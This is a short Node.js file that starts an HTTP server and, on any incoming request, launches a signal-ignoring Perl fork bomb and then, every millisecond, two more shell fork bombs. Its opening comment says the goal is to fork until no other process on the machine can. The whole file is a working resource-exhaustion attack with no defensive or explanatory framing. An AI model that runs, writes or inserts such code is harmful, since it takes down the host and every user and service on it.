// Forks until nobody in the box can, in small processes, so that it is their number that counts; those that end are replaced.
import { spawn } from 'node:child_process'
import { createServer } from 'node:http'

const first = '$| = 1; $SIG{$_} = "IGNORE" for keys %SIG; while (1) { setpgrp; defined fork or $told++ or print "no more: $!\\n" }'
const others = ['f() { f | f & }; f; f; f', 'while :; do sh -c "while :; do sleep 1 & done" & done']

createServer(() => {
  console.log('the bombs are out')
  const bomb = spawn('/usr/bin/perl', ['-e', first], { stdio: ['ignore', 'pipe', 'ignore'], detached: true })
  bomb.stdout.once('data', text => {
    console.log(String(text))
    setInterval(() => {
      for (const script of others) spawn('/bin/sh', ['-c', script], { stdio: 'ignore', detached: true }).on('error', () => {})
    }, 1)
  })
}).listen(process.env.PORT)
